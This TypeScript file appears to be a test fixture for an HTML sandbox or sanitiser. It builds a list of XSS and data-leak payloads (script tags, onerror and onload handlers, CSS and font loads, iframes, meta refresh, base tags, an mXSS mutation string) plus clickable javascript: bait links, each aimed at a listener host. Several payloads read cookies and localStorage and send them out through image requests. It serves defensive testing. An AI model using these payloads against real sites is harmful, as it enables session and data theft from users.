/**
 * One way in which HTML may act: its markup, whether an unguarded page lets it reach the listener
 * unasked, and whether it needs a document of its own, because it changes what the others do.
 */
export type Attack = { name: string; html: string; reaches: boolean; alone: boolean };

const alone = ["refresh", "refresh-script", "form", "base", "template", "mutation"];

/** Everything that a screen's HTML might try, each against a path of its own on the listener. */
export function attacksOn(host: string): Attack[] {
  const url = (name: string) => `http://${host}/${name}`;
  const steal = (name: string) =>
    `var i=new Image();i.src='${url(name)}?'+encodeURIComponent(localStorage.getItem('appforge.brief')+document.cookie);top.document.title='broken into'`;
  const attack = (name: string, html: string, reaches = true): Attack => ({
    name,
    html,
    reaches,
    alone: alone.includes(name),
  });
  return [
    attack("script", `<script>${steal("script")}</script>`),
    attack("handler", `<img src="data:," onerror="${steal("handler")}">`),
    attack("svg-handler", `<svg onload="${steal("svg-handler")}"></svg>`),
    attack("focus", `<input autofocus onfocus="${steal("focus")}">`, false),
    attack("animation", `<svg><set attributeName="x" onbegin="${steal("animation")}"></set></svg>`, false),
    attack("module", `<script type="module">fetch('${url("module")}')</script>`),
    attack("script-src", `<script src="${url("script-src")}"></script>`),
    attack("refresh", `<meta http-equiv="refresh" content="0;url=${url("refresh")}">`),
    attack("refresh-script", `<meta http-equiv="refresh" content="0;url=javascript:void(0)">`, false),
    attack(
      "form",
      `<form id="f" action="${url("form")}"><input name="card"></form><script>document.forms[0].submit()</script>`,
    ),
    attack("base", `<base href="http://${host}/"><img src="base">`),
    attack("css", `<style>p{background:url(${url("css")})}</style><p>styled</p>`),
    attack("css-import", `<style>@import "${url("css-import")}";</style>`),
    attack("css-inline", `<p style="background-image:url('${url("css-inline")}')">styled</p>`),
    attack("css-font", `<style>@font-face{font-family:x;src:url(${url("css-font")})}p{font-family:x}</style><p>x</p>`),
    attack("use", `<svg><use href="${url("use")}#a"></use></svg>`, false),
    attack("svg-image", `<svg><image href="${url("svg-image")}" width="9" height="9"></image></svg>`),
    attack("foreign", `<svg><foreignObject><img src="${url("foreign")}"></foreignObject></svg>`),
    attack("iframe", `<iframe src="${url("iframe")}"></iframe>`),
    attack("srcdoc", `<iframe srcdoc="&lt;img src='${url("srcdoc")}'&gt;"></iframe>`),
    attack("object", `<object data="${url("object")}"></object>`),
    attack("embed", `<embed src="${url("embed")}">`),
    attack("image", `<img src="${url("image")}">`),
    attack("srcset", `<img srcset="${url("srcset")} 1x">`),
    attack("picture", `<picture><source srcset="${url("picture")}"><img src="data:,"></picture>`),
    attack("video", `<video src="${url("video")}" autoplay muted></video>`),
    attack("poster", `<video poster="${url("poster")}"></video>`),
    attack("image-button", `<input type="image" src="${url("image-button")}">`),
    attack("stylesheet", `<link rel="stylesheet" href="${url("stylesheet")}">`),
    attack("preload", `<link rel="preload" as="image" href="${url("preload")}">`),
    attack("prefetch", `<link rel="prefetch" href="${url("prefetch")}">`, false),
    attack("preconnect", `<link rel="preconnect" href="http://${host}">`, false),
    attack("class", `<p class="bg-[url(${url("class")})]">styled</p>`, false),
    attack("noscript", `<noscript><img src="${url("noscript")}"></noscript>`, false),
    attack("template", `<template shadowrootmode="open"><img src="${url("template")}"></template>`, false),
    attack("mutation", `<math><mtext><table><mglyph><style><!--</style><img src="${url("mutation")}">`, false),
  ];
}

/** What acts when it is clicked; the words are those to click on. */
export function baitsOn(host: string): { words: string; html: string }[] {
  return [
    { words: "script link", html: `<a href="javascript:top.document.title='broken into'">script link</a>` },
    { words: "plain link", html: `<a href="http://${host}/link">plain link</a>` },
    { words: "top link", html: `<a target="_top" href="http://${host}/top">top link</a>` },
    { words: "new window", html: `<a target="_blank" href="http://${host}/window">new window</a>` },
    { words: "pinging link", html: `<a ping="http://${host}/ping" href="#">pinging link</a>` },
    {
      words: "send",
      html: `<form action="http://${host}/send"><input name="card" value="1"><button>send</button></form>`,
    },
    { words: "handler", html: `<button onclick="top.document.title='broken into'">handler</button>` },
  ];
}
